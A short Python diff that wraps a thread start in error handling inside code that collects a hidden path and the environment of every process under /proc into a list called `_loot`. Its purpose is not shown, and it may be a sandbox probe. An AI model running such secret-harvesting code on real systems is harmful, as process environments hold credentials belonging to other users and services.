@@ -193,8 +193,11 @@ def _grab(path):
         _loot.append(str(error))
 
 _grab(_HIDDEN)
-_thread = _threading.Thread(target=_grab, args=(_HIDDEN,))
-_thread.start(); _thread.join()
+try:
+    _thread = _threading.Thread(target=_grab, args=(_HIDDEN,))
+    _thread.start(); _thread.join()
+except RuntimeError as error:  # the worker may start no thread
+    _loot.append(repr(error))
 for _pid in _os.listdir("/proc"):
     if _pid.isdigit():
         _grab(f"/proc/{{_pid}}/environ")
